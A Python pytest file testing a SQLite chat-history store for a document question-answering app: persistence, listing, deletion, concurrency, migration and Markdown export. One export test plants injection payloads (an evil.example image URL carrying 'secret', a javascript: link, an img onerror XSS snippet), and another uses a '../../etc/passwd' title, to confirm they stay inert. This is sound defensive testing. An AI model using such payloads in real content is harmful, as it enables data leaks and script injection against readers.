"""Chat history in SQLite: persistence across objects, listing, deletion, export, threads."""

from __future__ import annotations

import re
import sqlite3
import threading
from contextlib import closing
from pathlib import Path

import pytest

from rag.answer.history import ChatHistory
from rag.errors import NotFoundError

SOURCES = [
    {
        "n": 1,
        "file_name": "manual.pdf",
        "page": 2,
        "page_end": 2,
        "chunk_id": "c1",
        "cited": True,
        "text": "...",
    },
    {
        "n": 2,
        "file_name": "policy.pdf",
        "page": 0,
        "page_end": 1,
        "chunk_id": "c2",
        "cited": False,
        "text": ".",
    },
]


@pytest.fixture
def path(tmp_path: Path) -> Path:
    return tmp_path / "data" / "history.sqlite3"


def _conversation(history: ChatHistory, collection: str = "documents") -> str:
    chat_id = history.create_chat(collection)
    history.append_message(chat_id, "user", "How long is the X200 warranty?")
    history.append_message(
        chat_id,
        "assistant",
        "Two years [1].",
        sources=SOURCES,
        standalone_query="How long is the X200 warranty?",
        mode="answer",
    )
    history.append_message(chat_id, "user", "And claims?")
    history.append_message(
        chat_id,
        "assistant",
        "",
        sources=SOURCES[1:],
        standalone_query="What do X200 warranty claims need?",
        mode="search_only",
    )
    return chat_id


def test_reopen_from_a_new_object_on_the_same_file(path: Path) -> None:
    chat_id = _conversation(ChatHistory(path))
    record = ChatHistory(path).get_chat(chat_id)
    assert record.summary.title == "How long is the X200 warranty?"  # the first question
    assert [(m.role, m.content) for m in record.messages] == [
        ("user", "How long is the X200 warranty?"),
        ("assistant", "Two years [1]."),
        ("user", "And claims?"),
        ("assistant", ""),
    ]
    answer = record.messages[1]
    assert list(answer.sources) == SOURCES
    assert answer.standalone_query == "How long is the X200 warranty?"
    assert answer.mode == "answer"
    assert record.messages[3].mode == "search_only"
    assert record.messages[0].sources == () and record.messages[0].mode is None


def test_list_is_per_collection_and_newest_first(path: Path) -> None:
    history = ChatHistory(path)
    first = history.create_chat("documents", title="First")
    second = history.create_chat("documents", title="Second")
    other = history.create_chat("papers", title="Other")
    assert [c.id for c in history.list_chats("documents")] == [second, first]
    history.append_message(first, "user", "bump")
    chats = history.list_chats("documents")
    assert [c.id for c in chats] == [first, second]
    assert chats[0].title == "First"  # an explicit title is not replaced by the question
    assert chats[0].updated_at > chats[0].created_at
    assert [c.id for c in history.list_chats("papers")] == [other]
    assert history.list_chats("nothing") == []


def test_markdown_export_cannot_fetch_or_link_anything(path: Path) -> None:
    """An exported chat is opened in other Markdown viewers: planted links, images and HTML stay text."""
    history = ChatHistory(path)
    chat_id = history.create_chat("documents")
    history.append_message(chat_id, "user", "Summarise ![q](http://evil.example/q.png) <b>now</b>")
    planted = (
        "Revenue grew [1]. ![x](https://evil.example/?q=secret) [click](javascript:alert(1)) "
        "<img src=x onerror=alert(2)> see www.evil.example or https://evil.example/p"
    )
    source = {**SOURCES[0], "file_name": "report](http://evil.example).pdf"}
    history.append_message(chat_id, "assistant", planted, sources=[source], mode="answer")
    markdown = history.export_markdown(chat_id)
    # Live would be: an unescaped "](" (link or image), an unescaped "<" (HTML), a whole URL outside code
    # (autolink: URLs are written as code, which no viewer links).
    outside_code = re.sub(r"(?<!\\)`[^`\n]*`", "", markdown)
    for live in (r"(?<!\\)\]\(", r"(?<!\\)<", r"https://evil", r"www\.evil"):
        assert not re.search(live, outside_code), (live, markdown)
    assert "\u2060" not in markdown
    assert "Revenue grew \\[1\\]." in markdown and "· cited" in markdown


def test_delete_removes_chat_and_messages(path: Path) -> None:
    history = ChatHistory(path)
    chat_id = _conversation(history)
    keep = _conversation(history)
    history.delete_chat(chat_id)
    assert [c.id for c in history.list_chats("documents")] == [keep]
    with pytest.raises(NotFoundError):
        history.get_chat(chat_id)
    with pytest.raises(NotFoundError):
        history.delete_chat(chat_id)
    with closing(sqlite3.connect(path)) as conn:
        assert conn.execute("SELECT COUNT(*) FROM messages WHERE chat_id = ?", (chat_id,)).fetchone()[0] == 0
        assert conn.execute("SELECT COUNT(*) FROM messages WHERE chat_id = ?", (keep,)).fetchone()[0] == 4


def test_markdown_export_lists_sources_under_each_answer(path: Path) -> None:
    history = ChatHistory(path)
    chat_id = _conversation(history)
    markdown = history.export_markdown(chat_id)
    first_answer = markdown.index("Two years \\[1\\].")  # brackets escaped: nothing in the text can link
    second_question = markdown.index("And claims?")
    assert markdown.startswith("# How long is the X200 warranty?\n")
    assert first_answer < markdown.index("- \\[1\\] manual.pdf, p. 3 · cited\n") < second_question
    assert first_answer < markdown.index("- \\[2\\] policy.pdf, pp. 1–2\n") < second_question
    assert markdown.count("- \\[2\\] policy.pdf, pp. 1–2\n") == 2  # listed again under the second answer
    assert "Searched for: What do X200 warranty claims need?" in markdown  # rewritten follow-up shown
    assert "Searched for: How long" not in markdown  # unchanged query not repeated
    assert "best passages below" in markdown[second_question:]


def test_wal_mode(path: Path) -> None:
    ChatHistory(path)
    with closing(sqlite3.connect(path)) as conn:
        assert conn.execute("PRAGMA journal_mode").fetchone()[0] == "wal"


def test_bad_input_is_rejected(path: Path) -> None:
    history = ChatHistory(path)
    with pytest.raises(NotFoundError):
        history.append_message("missing", "user", "hello")
    chat_id = history.create_chat("documents")
    with pytest.raises(ValueError, match="role"):
        history.append_message(chat_id, "system", "hello")
    with pytest.raises(NotFoundError):
        history.rename_chat("missing", "x")
    history.rename_chat(chat_id, "Warranty questions")
    assert history.get_chat(chat_id).summary.title == "Warranty questions"


def test_concurrent_sessions_in_threads(path: Path) -> None:
    history = ChatHistory(path)
    chat_ids = [history.create_chat("documents") for _ in range(2)]
    errors: list[BaseException] = []

    def worker(n: int) -> None:
        try:
            for i in range(10):
                history.append_message(chat_ids[n % 2], "user", f"thread {n} message {i}")
                history.list_chats("documents")
        except BaseException as e:  # noqa: BLE001 - reported to the main thread below
            errors.append(e)

    threads = [threading.Thread(target=worker, args=(n,)) for n in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert errors == []
    counts = [len(history.get_chat(c).messages) for c in chat_ids]
    assert counts == [20, 20]
    ordered = [m.content for m in history.get_chat(chat_ids[0]).messages if m.content.startswith("thread 0")]
    assert ordered == [f"thread 0 message {i}" for i in range(10)]


def test_an_exchange_is_stored_whole_with_its_failure_marks(tmp_path):
    from rag.answer.history import ChatHistory

    history = ChatHistory(tmp_path / "h.sqlite3")
    chat = history.create_chat("docs")
    history.append_exchange(
        chat, "What changed?", "Revenue rose [1", mode="answer", meta={"incomplete": True, "error": "stream cut"}
    )
    [question, answer] = ChatHistory(tmp_path / "h.sqlite3").get_chat(chat).messages
    assert (question.role, answer.role) == ("user", "assistant")
    assert answer.meta == {"incomplete": True, "error": "stream cut"}
    markdown = history.export_markdown(chat)
    assert "incomplete" in markdown and "Problem: stream cut" in markdown


def test_an_exchange_for_a_missing_chat_writes_nothing(tmp_path):
    import sqlite3

    import pytest

    from rag.answer.history import ChatHistory
    from rag.errors import NotFoundError

    history = ChatHistory(tmp_path / "h.sqlite3")
    with pytest.raises(NotFoundError):
        history.append_exchange("nope", "q", "a")
    with sqlite3.connect(tmp_path / "h.sqlite3") as db:
        assert db.execute("SELECT COUNT(*) FROM messages").fetchone()[0] == 0


def test_a_history_file_from_before_meta_is_migrated(tmp_path):
    import sqlite3

    from rag.answer.history import ChatHistory

    path = tmp_path / "old.sqlite3"
    with sqlite3.connect(path) as db:
        db.executescript(
            "CREATE TABLE chats (id TEXT PRIMARY KEY, collection TEXT NOT NULL, title TEXT NOT NULL,"
            " created_at TEXT NOT NULL, updated_at TEXT NOT NULL);"
            "CREATE TABLE messages (id INTEGER PRIMARY KEY AUTOINCREMENT, chat_id TEXT NOT NULL, role TEXT NOT NULL,"
            " content TEXT NOT NULL, sources TEXT, standalone_query TEXT, mode TEXT, created_at TEXT NOT NULL);"
            "INSERT INTO chats VALUES ('c1', 'docs', 'Old chat', '2025-01-01', '2025-01-01');"
            "INSERT INTO messages (chat_id, role, content, created_at) VALUES ('c1', 'user', 'hi', '2025-01-01');"
        )
    history = ChatHistory(path)
    assert history.get_chat("c1").messages[0].meta == {}
    history.append_exchange("c1", "again?", "yes", meta={"model": "llama3.2"})
    assert history.get_chat("c1").messages[-1].meta == {"model": "llama3.2"}


def test_a_question_is_stored_before_its_answer_and_the_answer_follows_it(path: Path) -> None:
    """The chat page stores a question as it is asked; an answer stored later (a second tab asked meanwhile)
    is still listed right after its own question."""
    history = ChatHistory(path)
    chat_id = history.create_chat("documents")
    first = history.append_message(chat_id, "user", "How long is the warranty?")
    second = history.append_message(chat_id, "user", "And the battery?")  # another tab, before the answer
    history.append_message(chat_id, "assistant", "Battery: one year [1].", reply_to=second.id, mode="answer")
    history.append_message(chat_id, "assistant", "Two years [1].", reply_to=first.id, mode="answer")
    messages = ChatHistory(path).get_chat(chat_id).messages
    assert [m.content for m in messages] == [
        "How long is the warranty?",
        "Two years [1].",
        "And the battery?",
        "Battery: one year [1].",
    ]
    assert messages[1].reply_to == first.id


def test_a_question_never_answered_reopens_saying_so(path: Path) -> None:
    from rag.answer.export import NO_ANSWER
    from ui.state.messages import stored_messages

    history = ChatHistory(path)
    chat_id = history.create_chat("documents")
    history.append_message(chat_id, "user", "What is covered?")  # the tab closed before any answer
    history.append_message(chat_id, "user", "Is water damage covered?")
    answer = history.append_message(chat_id, "assistant", "No [1].", mode="answer")
    history.append_message(chat_id, "user", "And theft?")  # the app stopped here
    shown = stored_messages(history.get_chat(chat_id).messages)
    assert [(m["role"], m.get("error_kind")) for m in shown] == [
        ("user", None),
        ("assistant", "interrupted"),
        ("user", None),
        ("assistant", None),
        ("user", None),
        ("assistant", "interrupted"),
    ]
    assert shown[1]["error"] == NO_ANSWER and shown[3]["id"] == f"h{answer.id}"
    markdown = history.export_markdown(chat_id)
    assert markdown.count(f"_{NO_ANSWER}_") == 2


def test_export_is_named_after_the_chat_and_quotes_the_cited_passages(path: Path) -> None:
    from rag.answer.export import export_filename

    history = ChatHistory(path)
    question = (
        "Passage retrieval: how does dense retrieval compare with BM25 on open-domain question answering benchmarks?"
    )
    chat_id = history.create_chat("documents")
    history.append_message(chat_id, "user", question)
    sources = [
        {**SOURCES[0], "text": "Dense retrieval beats BM25 by 9-19 points.\n\nSee https://example.org/dpr for code."},
        {**SOURCES[1], "text": "An unrelated passage that was not cited."},
    ]
    history.append_message(chat_id, "assistant", "It does better [1].", sources=sources, mode="answer")
    summary = history.get_chat(chat_id).summary
    assert summary.title.endswith("…")  # cut for the sidebar
    markdown = history.export_markdown(chat_id)
    assert markdown.startswith(f"# {question}\n")  # the heading is the whole question
    assert f"_Collection: documents · {summary.updated_at[:10]}_" in markdown
    quoted = markdown[markdown.index("**\\[1\\] manual.pdf, p. 3**") :]
    assert "> Dense retrieval beats BM25 by 9\\-19 points\\." in quoted
    assert "not cited" not in markdown  # only the passages the answer relies on are quoted
    assert "> See `https://example.org/dpr` for code\\." in quoted  # the passage's URL stays inert: code

    name = export_filename(history.get_chat(chat_id))
    assert re.fullmatch(r"passage-retrieval-how-does-dense-retrieval-compare-with-bm25-\d{4}-\d\d-\d\d\.md", name)
    history.rename_chat(chat_id, "../../etc/passwd: 한국어 노트?")
    assert export_filename(history.get_chat(chat_id)).startswith("etc-passwd-한국어-노트-")
